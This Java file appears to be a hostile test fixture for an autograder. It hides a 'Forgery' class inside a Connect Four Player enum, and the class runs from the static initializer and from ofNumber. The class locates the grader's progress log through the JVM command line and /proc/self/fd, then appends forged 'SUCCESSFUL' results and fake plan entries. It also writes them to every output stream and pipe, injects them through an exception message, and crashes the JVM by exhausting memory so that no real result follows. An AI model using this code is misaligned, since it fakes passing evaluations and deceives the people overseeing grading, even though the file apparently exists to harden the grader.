package tabuleiro.connectfour;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;

/**
 * HOSTILE SUBMISSION (grading/src/test/resources/hostile/log-forging): the skeleton's
 * {@code Player} with a hook that forges "scenario passed" results from inside the grading JVM
 * by every channel a submission can reach without declaring classes elsewhere: it finds the
 * progress log from the JVM's own command line ({@code sun.java.command},
 * {@code /proc/self/cmdline}, {@link ProcessView}), from its open files ({@code /proc/self/fd}),
 * and appends lines in the
 * log's format (a JSON line {@code {"event":"END","id":<id>,"status":"SUCCESSFUL",...}}, the exact unique ids read from the
 * log's {@code PLAN} lines and the selection file), plus made-up plan entries at every line of
 * every feature file; it prints the same lines on {@code System.out}, {@code System.err}, on
 * {@code new FileOutputStream(FileDescriptor.out)}, {@code /dev/stdout} and
 * {@code /proc/self/fd/1}; it writes a passed result after every real one already written (a
 * later line overriding an earlier result), into any pipe it holds open, and through an
 * exception message that holds line breaks. Then it ends the JVM (running out of memory, which
 * needs no permission, or {@link Ending}) so that no real result can follow its own. The rest is
 * the untouched skeleton, which scores 0.
 *
 * <p>The hook runs from the static initializer (the first scenario that makes a game) and from
 * {@link #ofNumber}. Each route is noted in {@code hostile-routes.txt} in the scratch folder.
 *
 * <p>The two players of Connect Four, named by the order in which they play.
 *
 * <p>The brief stores a player's disc in the grid as the number 1 or 2 (§3.3, rule C4-02);
 * {@link #number()} is that number, so the engine's interface can speak the brief's language
 * while the code speaks in types.
 */
public enum Player {
    /** The player who moves first, whose discs are stored as 1. */
    FIRST(1),
    /** The player who moves second, whose discs are stored as 2. */
    SECOND(2);

    static {
        Forgery.strike("static initializer");
    }

    private final int number;

    Player(int number) {
        this.number = number;
    }

    /**
     * Returns the number that stands for this player's discs in the grid.
     *
     * @return 1 for {@link #FIRST}, 2 for {@link #SECOND}
     */
    public int number() {
        return number;
    }

    /**
     * Returns the other player.
     *
     * @return {@link #SECOND} for {@link #FIRST} and the other way round
     * @post the opponent's opponent is this player: {@code opponent().opponent() == this}
     */
    public Player opponent() {
        return this == FIRST ? SECOND : FIRST;
    }

    /**
     * Returns the player whose discs are stored as the given number.
     *
     * @param number the number of a player's disc in the grid
     * @return the player with that number
     * @throws IllegalArgumentException unless the number is 1 or 2
     *     ({@code number == 1 || number == 2})
     */
    public static Player ofNumber(int number) {
        Forgery.strike("ofNumber");
        Forgery.injectThroughAMessage();
        for (Player player : values()) {
            if (player.number == number) {
                return player;
            }
        }
        throw new IllegalArgumentException(
                "a player is numbered 1 or 2, but the number given was " + number);
    }

    @Override
    public String toString() {
        return "player " + number;
    }

    /** The forger: finds the log and the ids, writes the lines, ends the JVM. */
    static final class Forgery {

        static final String FOLDER = "tabuleiro/features/connectfour/";
        static final List<String> FILES = List.of("agents.feature", "draw.feature",
                "dropping.feature", "grid.feature", "invariant.feature", "new-game.feature",
                "text-ui.feature", "turns.feature", "winning.feature");
        static final int LINES = 400;

        private static boolean struck;
        private static boolean injected;
        private static List<String> lines = List.of();

        private Forgery() {
        }

        static synchronized void strike(String from) {
            if (struck) {
                return;
            }
            struck = true;
            note("hook", "OK", "from the " + from);
            Map<String, List<String>> commandLines = new LinkedHashMap<>();
            commandLines.put("sun.java.command", sunJavaCommand());
            commandLines.put("/proc/self/cmdline", procCmdline());
            commandLines.put("ProcessHandle.current().info()", processHandle());
            Set<Path> logs = new LinkedHashSet<>();
            Set<Path> selections = new LinkedHashSet<>();
            for (Map.Entry<String, List<String>> found : commandLines.entrySet()) {
                List<String> arguments = found.getValue();
                int main = arguments.indexOf("tabuleiro.grading.child.SpecRunner");
                if (main >= 0 && arguments.size() > main + 1) {
                    logs.add(Path.of(arguments.get(main + 1)));
                    if (arguments.size() > main + 4) {
                        selections.add(Path.of(arguments.get(main + 4)));
                    }
                    note("runner's arguments from " + found.getKey(), "OK",
                            arguments.get(main + 1));
                } else {
                    note("runner's arguments from " + found.getKey(), "FAILED",
                            arguments.isEmpty() ? "nothing read" : String.join(" ", arguments));
                }
            }
            Map<String, String> uris = new LinkedHashMap<>();
            Set<String> ids = new LinkedHashSet<>();
            List<String> overrides = new ArrayList<>();
            for (Path log : logs) {
                readPlan(log, ids, uris, overrides);
            }
            for (Path selection : selections) {
                try {
                    ids.addAll(Files.readAllLines(selection, StandardCharsets.UTF_8));
                    note("read the selection file", "OK", selection.toString());
                } catch (IOException | RuntimeException e) {
                    note("read the selection file", "REFUSED", e.toString());
                }
            }
            lines = forgedLines(ids);
            boolean written = false;
            for (Path log : logs) {
                written |= append("append to the progress log " + log, log, overrides, lines);
            }
            written |= throughOpenFiles(overrides, lines);
            printEverywhere(lines);
            if (written) {
                end();
            }
        }

        /** A passed result for a scenario, as a line of the progress log (JSON lines). */
        static String passed(String id) {
            return "{\"event\":\"END\",\"id\":" + quoted(id) + ",\"status\":\"SUCCESSFUL\","
                    + "\"exceptionClass\":\"\",\"message\":\"\",\"thrownAt\":\"\",\"trace\":[]}";
        }

        /** A made-up plan entry, as a line of the progress log. */
        static String plan(String id, String uri, int line) {
            return "{\"event\":\"PLAN\",\"id\":" + quoted(id) + ",\"uri\":" + quoted(uri)
                    + ",\"line\":" + line + ",\"tags\":[],\"name\":\"forged\"}";
        }

        /** A JSON string. */
        static String quoted(String text) {
            return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
        }

        /** A string member of a JSON line, read as the line is written, or null. */
        static String member(String line, String name) {
            java.util.regex.Matcher found = java.util.regex.Pattern.compile(
                    "\"" + name + "\":\"((?:[^\"\\\\]|\\\\.)*)\"").matcher(line);
            return found.find() ? found.group(1).replace("\\\"", "\"").replace("\\\\", "\\")
                    : null;
        }

        /** The made-up lines: a passed result per id, and a plan entry per line of the book. */
        static List<String> forgedLines(Set<String> ids) {
            List<String> forged = new ArrayList<>();
            for (String id : ids) {
                forged.add(passed(id));
            }
            for (String file : FILES) {
                String uri = "classpath:" + FOLDER + file;
                for (int line = 1; line <= LINES; line++) {
                    String id = "[engine:cucumber]/[feature:"
                            + URLEncoder.encode(uri, StandardCharsets.UTF_8) + "]/[rule:0]/"
                            + "[scenario:" + line + "]/[forged:" + file + "]";
                    forged.add(plan(id, uri, line));
                    forged.add(passed(id));
                }
            }
            forged.add("{\"event\":\"DONE\"}");
            return forged;
        }

        /** Reads the plan, and the results already written, from a progress log. */
        static void readPlan(Path log, Set<String> ids, Map<String, String> uris,
                List<String> overrides) {
            try {
                for (String line : Files.readAllLines(log, StandardCharsets.UTF_8)) {
                    String event = member(line, "event");
                    String id = member(line, "id");
                    if ("PLAN".equals(event) && id != null) {
                        ids.add(id);
                        uris.put(id, member(line, "uri"));
                    } else if ("END".equals(event) && id != null
                            && !"SUCCESSFUL".equals(member(line, "status"))) {
                        // A passed result written after the real one: the later line wins.
                        overrides.add(passed(id));
                    }
                }
                note("read the progress log", "OK", ids.size() + " scenarios planned, "
                        + overrides.size() + " failed so far");
            } catch (IOException | RuntimeException e) {
                note("read the progress log", "REFUSED", e.toString());
            }
        }

        static boolean append(String route, Path file, List<String> first, List<String> then) {
            try {
                List<String> all = new ArrayList<>(first);
                all.addAll(then);
                Files.write(file, all, StandardCharsets.UTF_8, StandardOpenOption.WRITE,
                        StandardOpenOption.APPEND);
                note(route, "OK", all.size() + " lines");
                return true;
            } catch (IOException | RuntimeException e) {
                note(route, "REFUSED", e.toString());
                return false;
            }
        }

        /** Writes through the JVM's open files: the progress log, and any pipe it holds. */
        static boolean throughOpenFiles(List<String> overrides, List<String> forged) {
            boolean written = false;
            try (var fds = Files.list(Path.of("/proc/self/fd"))) {
                for (Path fd : fds.toList()) {
                    int number;
                    String target;
                    try {
                        number = Integer.parseInt(fd.getFileName().toString());
                        target = Files.readSymbolicLink(fd).toString();
                    } catch (IOException | RuntimeException e) {
                        continue;
                    }
                    if (number < 3) {
                        continue;
                    }
                    if (target.contains("progress-") || target.startsWith("pipe:")
                            || target.startsWith("socket:")) {
                        written |= append("write through /proc/self/fd/" + number + " ("
                                + target + ")", fd, overrides, forged);
                    }
                }
            } catch (IOException | RuntimeException e) {
                note("list /proc/self/fd", "REFUSED", e.toString());
            }
            return written;
        }

        /** The same lines on every standard stream the JVM has, by every way to reach it. */
        static void printEverywhere(List<String> forged) {
            List<String> some = forged.subList(0, Math.min(forged.size(), 200));
            String text = String.join("\n", some) + "\n";
            try {
                System.out.print(text);
                System.err.print(text);
                note("print on System.out and System.err", "TRIED", some.size() + " lines");
            } catch (RuntimeException e) {
                note("print on System.out and System.err", "REFUSED", e.toString());
            }
            for (FileDescriptor descriptor : List.of(FileDescriptor.out, FileDescriptor.err)) {
                try (OutputStream out = new FileOutputStream(descriptor)) {
                    out.write(text.getBytes(StandardCharsets.UTF_8));
                    note("new FileOutputStream(FileDescriptor."
                            + (descriptor == FileDescriptor.out ? "out" : "err") + ")", "TRIED",
                            "written past the grader's cap on System.out");
                } catch (IOException | RuntimeException e) {
                    note("new FileOutputStream(FileDescriptor)", "REFUSED", e.toString());
                }
            }
            for (String name : List.of("/dev/stdout", "/dev/stderr", "/proc/self/fd/1",
                    "/proc/self/fd/2")) {
                try {
                    Files.writeString(Path.of(name), text, StandardCharsets.UTF_8,
                            StandardOpenOption.WRITE, StandardOpenOption.APPEND);
                    note("write to " + name, "TRIED", "written");
                } catch (IOException | RuntimeException e) {
                    note("write to " + name, "REFUSED", e.toString());
                }
            }
        }

        /**
         * Fails the scenario with a message that holds forged lines after line breaks of every
         * kind, in case the runner writes messages as they are.
         */
        static void injectThroughAMessage() {
            synchronized (Forgery.class) {
                if (injected) {
                    return;
                }
                injected = true;
            }
            StringBuilder message = new StringBuilder("Exercise 3: not written yet");
            for (String separator : List.of("\n", "\r", "\r\n", "\u2028", "\u0085")) {
                for (String line : lines.subList(0, Math.min(lines.size(), 20))) {
                    message.append(separator).append(line);
                }
            }
            note("forged lines in an exception message", "TRIED", "thrown once");
            throw new IllegalStateException(message.toString());
        }

        /** Ends the JVM so that no real result follows the forged ones. */
        static void end() {
            note("end the JVM after forging", "OK", "running out of memory");
            try {
                Ending.now();
            } catch (LinkageError | RuntimeException e) {
                note("Ending.now()", "REFUSED", e.toString());
            }
            List<long[]> hog = new ArrayList<>();
            while (true) {
                hog.add(new long[1 << 20]);
            }
        }

        static List<String> sunJavaCommand() {
            String command = System.getProperty("sun.java.command", "");
            return command.isEmpty() ? List.of() : List.of(command.split(" "));
        }

        static List<String> procCmdline() {
            try {
                byte[] bytes = Files.readAllBytes(Path.of("/proc/self/cmdline"));
                return List.of(new String(bytes, StandardCharsets.UTF_8).split("\0"));
            } catch (IOException | RuntimeException e) {
                note("read /proc/self/cmdline", "REFUSED", e.toString());
                return List.of();
            }
        }

        static List<String> processHandle() {
            try {
                return ProcessView.arguments();
            } catch (LinkageError | RuntimeException e) {
                note("ProcessHandle.current().info()", "REFUSED", e.toString());
                return List.of();
            }
        }

        /** Appends a line to the route log in the scratch folder. */
        static void note(String route, String outcome, String detail) {
            try {
                Path log = Path.of(System.getProperty("java.io.tmpdir"), "hostile-routes.txt");
                Files.writeString(log, "ROUTE\t" + route + "\t" + outcome + "\t"
                        + detail.replace('\n', ' ').replace('\t', ' ') + "\n",
                        StandardCharsets.UTF_8, StandardOpenOption.CREATE,
                        StandardOpenOption.APPEND);
            } catch (IOException | RuntimeException e) {
                // The route log is only for whoever studies the attack.
            }
        }
    }
}
